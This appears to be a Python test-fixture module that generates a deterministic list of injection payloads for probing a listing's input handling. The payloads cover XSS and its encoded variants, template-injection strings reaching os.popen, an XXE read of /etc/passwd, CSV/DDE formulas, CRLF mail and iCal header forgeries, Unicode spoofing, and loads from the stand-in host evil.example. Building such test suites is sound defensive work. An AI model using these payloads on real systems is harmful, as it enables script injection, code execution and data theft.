"""Texts that somebody might type into a listing to run a script, forge a line, or deceive whoever reads it.

Every text that a browser could run touches a canary: `window.__hit`, `alert`, or the title of the page, which becomes
HIT. Every text that a template could work out shows PRODUCT, which stands in none of them. The list is made by plain
rules and one seed, so that it is the same every time.
"""

import random
import unicodedata
from collections.abc import Iterator, Sequence
from functools import cache
from urllib.parse import quote

FACTORS = (7919, 6547)
PRODUCT = str(FACTORS[0] * FACTORS[1])
TITLE = "HIT"
LONGEST = 10_000
_SUM = "*".join(map(str, FACTORS))
# What a script does when it runs. None has a quotation mark of both kinds, so that each fits into an attribute.
_CANARIES = ("window.__hit=1", "alert(1)", "document.title='H'+'IT'", "self['__h'+'it']=1")

_ELEMENTS = """
<script>JS</script>
<ScRiPt>JS</sCrIpT>
<script/x>JS</script >
<scriptNEWLINE>JS</scriptNEWLINE>
<scr<script>ipt>JS</scr</script>ipt>
<<script>JS//<</script>
<script src=data:,JS></script>
<script src=//evil.example/x.js></script>
<script type=module>JS</script>
<script>JS
<svg><script>JS</script></svg>
<svg><script href=data:,JS />
<svg/onload=JS>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=JS>#x">
<svg><set attributeName=href to=javascript:JS>
<svg><foreignObject><iframe onload=JS>
<img src=x onerror=JS>
<img src=x onerror="JS">
<img/src=`x`onerror=JS>
<img src='x'onerror=JS//
<image src=x onerror=JS>
<img srcset=x onerror=JS>
<img src=//evil.example/x.png>
<picture><source srcset=x><img onerror=JS src=x>
<video><source onerror=JS>
<audio src=x onerror=JS>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe src="javascript:parent.JS">
<iframe onload=JS>
<iframe src=//evil.example/>
<object data="javascript:JS">
<object data="data:text/html,<script>parent.JS</script>">
<embed src=javascript:JS>
<math><a xlink:href="javascript:JS">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=JS>
<style>@import "//evil.example/x.css";</style>
<style onload=JS></style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=stylesheet onload=JS href=data:text/css,>
<meta http-equiv=refresh content="0;url=javascript:JS">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<form action=javascript:JS><button>x
</form><form action=//evil.example/><input name=version>
<button formaction=javascript:JS>x
<input autofocus onfocus=JS>
<select autofocus onfocus=JS>
<textarea autofocus onfocus=JS>
<details open ontoggle=JS>
<body onload=JS>
<marquee onstart=JS>
<p style="animation:x 1s" onanimationstart=JS>
<p style=position:fixed;inset:0 onmouseover=JS>
<a href=javascript:JS>x</a>
<a href=# ping=//evil.example/>x</a>
<x contenteditable autofocus onfocus=JS tabindex=1>
<template shadowrootmode=open><img src=x onerror=JS></template>
<dialog open onfocusin=JS><input autofocus>
<plaintext>
<!--
"""

_BREAKOUTS = """
"><script>JS</script>
'><script>JS</script>
`><script>JS</script>
"autofocus onfocus="JS
'autofocus onfocus=JS x='
x autofocus onfocus=JS
" style="position:fixed" onmouseover="JS
\\"><script>JS</script>
&quot;><script>JS</script>
"/><img src=x onerror=JS>
--><script>JS</script>
--!><script>JS</script>
<!--><script>JS</script>
<!--<script>JS</script>-->
<![CDATA[<script>JS</script>]]>
]]><script>JS</script>
<?xml-stylesheet href="javascript:JS"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
</title><script>JS</script>
</textarea><script>JS</script>
</style><script>JS</script>
</noscript><script>JS</script>
</template><script>JS</script>
</select><script>JS</script>
</option></select><img src=x onerror=JS>
</svg></math><script>JS</script>
</script><script>JS</script>
</script ><svg onload=JS>
</SCRIPT/x><script>JS</script>
<!--<script></script><script>JS</script>
";JS;"
');JS//
`;JS;`
'+JS+'
"+JS+"
});JS;({
*/JS/*
\\';JS//
\\u0022;JS//
"}]}</script><script>JS</script>
"},"__proto__":{"x":"JS"},"y":{"z":"
{"__html":"<img src=x onerror=JS>"}
L.marker([0,0]).bindPopup('<img src=x onerror=JS>').openPopup()
'}).addTo(map);JS;L.divIcon({html:'<img src=x onerror=JS>
`}).addTo(map);JS;L.divIcon({html:`
<div class="leaflet-popup"><img src=x onerror=JS></div>
}</style><script>JS</script>
x;background:url(//evil.example/x)
x;background:url(javascript:JS)
expression(JS)
}*{display:none}
@import'//evil.example/x.css';
"""

_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=JS>">
<title><a title="</title><img src=x onerror=JS>">
<textarea><a title="</textarea><img src=x onerror=JS>">
<style><a title="</style><img src=x onerror=JS>">
<xmp><a title="</xmp><img src=x onerror=JS>">
<noembed><a title="</noembed><img src=x onerror=JS>">
<svg></p><style><a id="</style><img src=x onerror=JS>">
<math><annotation-xml encoding="text/html"><img src=x onerror=JS>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>
<table><td><select><script>JS</script>
<a href="x" title="`><img src=x onerror=JS>">
<select><template><img src=x onerror=JS></template></select>
"""

_ADDRESSES = """
javascript:JS
JaVaScRiPt:JS
java\tscript:JS
javaNEWLINEscript:JS
\x01javascript:JS
 javascript:JS
javascript&colon;JS
&#106;avascript:JS
javascript:%0aJS
javascript://example.org/%0aJS
vbscript:JS
data:text/html,<script>JS</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
//evil.example/x
\\\\evil.example\\x
https://evil.example\\@example.org/
https://example.org@evil.example/
feed:javascript:JS
view-source:javascript:JS
https://example.org/"onmouseover="JS
https://example.org/<script>JS</script>
https://example.org/' onclick=JS x='
mailto:a@example.org?bcc=b@evil.example
tel:0208<script>JS</script>
a@example.org"onfocus="JS
"><script>JS</script>@example.org
"""

_TEMPLATES = """
{{ SUM }}
{{SUM}}
{{{SUM}}}
{%print(SUM)%}
{% set x = SUM %}{{ x }}
{# x #}{{ SUM }}{# y
{% if true %}{{ SUM }}{% endif %}
{% raw %}{{ SUM }}
{% endraw %}{{ SUM }}
{% endblock %}{{ SUM }}
{% include "layout.html" %}
{% for x in range(10**9) %}x{% endfor %}
{{ config }}
{{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ "<script>JS</script>"|safe }}
{{ constructor.constructor('JS')() }}
{{=SUM}}
${SUM}
${JS}
`${JS}`
$(JS)
#{SUM}
<%= SUM %>
@(SUM)
[[SUM]]
*{SUM}
{service.__class__}
{0.__init__.__globals__}
{link} {stop_link} {list} {phone}
%(name)s %s %n %x
{{ request.cookies }}{% macro x() %}
"""

_CELLS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","tea")',
    '=IMPORTXML("https://evil.example","//a")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "'=1+1",
    '"=1+1',
    "x,=1+1",
    'x";=1+1',
    "x\r\n=1+1,y",
)

_LINES = (
    "tea\r\nBcc: everybody@evil.example",
    "tea\nBcc: everybody@evil.example",
    "tea\rBcc: everybody@evil.example",
    "tea\r\n\r\n<script>alert(1)</script>",
    "tea\u2028Bcc: everybody@evil.example",
    "tea\x85Bcc: everybody@evil.example",
    "tea%0d%0aBcc: everybody@evil.example",
    "=?utf-8?q?tea=0d=0aBcc:_everybody=40evil.example?=",
    '"x" <everybody@evil.example>, tea',
    "tea\r\n.\r\nMAIL FROM:<x@evil.example>",
    "tea\r\nContent-Type: text/html\r\n\r\n<b>x",
    "tea\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "tea\nEND:VCALENDAR",
    "tea\r\nATTACH:javascript:alert(1)",
    "tea\u2029ORGANIZER:mailto:x@evil.example",
    "tea\x0bATTENDEE:mailto:x@evil.example",
    "tea\\nEND:VEVENT\\nBEGIN:VALARM",
    "tea;VALUE=URI:https://evil.example,x",
)

_MARKDOWN = (
    "[tea](javascript:alert(1))",
    "[tea](https://evil.example 'onmouseover=alert(1)')",
    "![tea](x'onerror=alert(1))",
    "![tea](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "# tea\n\n- **tea** <img src=x onerror=alert(1)>",
)

_WRITING = (
    "tea \u202etpircs\u202c",
    "tea \u2066\u202egpj.exe\u2069",
    "\u202dtea\u202e\u2067\u2068",
    "\u200ftea\u200e\u061c",
    "t\u200be\u200ca\u200d\u2060\ufeff",
    "tea\u00ad\u180e\u034f",
    "te" + "a\u0301\u0323" * 60,
    "t" + "\u0e49" * 90 + "ea",
    "tea \ud800",
    "\udfff\ud800 tea",
    "tea\x00<script>alert(1)</script>",
    "tea\x1b[31m\x07\x08\x7f",
    "tea \ufffe\uffff\U0010ffff\ue000",
    "tea \U000e0041\U000e007f",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
    "tea \U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd \U0001f1ec\U0001f1e7 \U0001fae0",
    "\u05e9\u05dc\u05d5\u05dd <b>\u0645\u0631\u062d\u0628\u0627</b> tea",
    "\ufdfd\U0001242b tea",
    "tea\ufff9x\ufffa<script>alert(1)</script>\ufffb",
)

# The same script in other clothes: what a filter that looks for "<script" would let through.
_UNDRESSED = ("<script>JS</script>", "<img src=x onerror=JS>", '"><svg onload=JS>')


def storable(text: str) -> str:
    """Return a text without halves of characters, which no file and no database can hold."""
    return text.encode("utf-8", "ignore").decode()


def bare(text: str) -> str:
    """Return what is printed of a text, without blanks: browsers and `clean` treat the rest in ways of their own."""
    composed = unicodedata.normalize("NFC", "".join(char for char in text if char.isprintable()))
    return "".join(composed.replace("\ufffd", "").split())


def missing(shown: str, texts: Sequence[str]) -> list[str]:
    """Return the texts that cannot be read on a page, of which `shown` is all that is written there.

    Capitals count as small letters: what begins a line on a page may get one.
    """
    printed = bare(shown).casefold()
    return [text for text in texts if bare(text).casefold() not in printed]


def payloads() -> Sequence[str]:
    """Return all texts, more than 200, each once, in a fixed, mixed order; the plainest script is first."""
    return _payloads()


def some_payloads(count: int) -> Sequence[str]:
    """Return `count` texts, or all when there are fewer, of as many kinds as possible."""
    known = payloads()
    step = max(1, len(known) // max(1, count))
    return known[::step][:count]


@cache
def _payloads() -> tuple[str, ...]:
    first, *others = dict.fromkeys(_all())
    random.Random(5).shuffle(others)
    return first, *others


def _all() -> Iterator[str]:
    number = 0
    for family in (_ELEMENTS, _BREAKOUTS, _MUTATIONS, _ADDRESSES, _TEMPLATES):
        for line in family.strip("\n").split("\n"):
            yield _armed(line.replace("SUM", _SUM).replace("NEWLINE", "\n"), number)
            number += 1
    for text in _UNDRESSED:
        yield from _dressed(_armed(text, number))
        number += 1
    yield from (*_CELLS, *_LINES, *_MARKDOWN, *_WRITING)
    yield _long("<script>alert(1)</script>")
    yield _long("{{ " + _SUM + " }}")
    yield _long("\u202e<b>")
    yield _long("te\u0301a")


def _armed(text: str, number: int) -> str:
    """Put a canary in, another one for each text."""
    return text.replace("JS", _CANARIES[number % len(_CANARIES)])


def _long(text: str) -> str:
    return (text * LONGEST)[:LONGEST]


def _dressed(text: str) -> Iterator[str]:
    """Yield one text in every encoding that something on the way might undo."""
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(char)};" for char in text)
    yield "".join(f"&#x{ord(char):X};" for char in text)
    yield "".join(f"&#{ord(char):07}" for char in text)
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "".join(f"\\u{ord(char):04x}" for char in text)
    yield "".join(f"\\x{ord(char):02x}" for char in text)
    yield "".join(f"%u{ord(char):04x}" for char in text)
    yield text.encode("utf-7").decode("ascii")
    # The two bytes of an overlong "<", as a reader that takes bytes for letters shows them.
    yield text.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
    yield text.replace("s", "\x00s").replace("i", "\x00i")
    yield text.replace("<", "<\u200b").replace(" ", "\u00a0")
    yield text.replace("<", "<\x0c").replace(" ", "/")
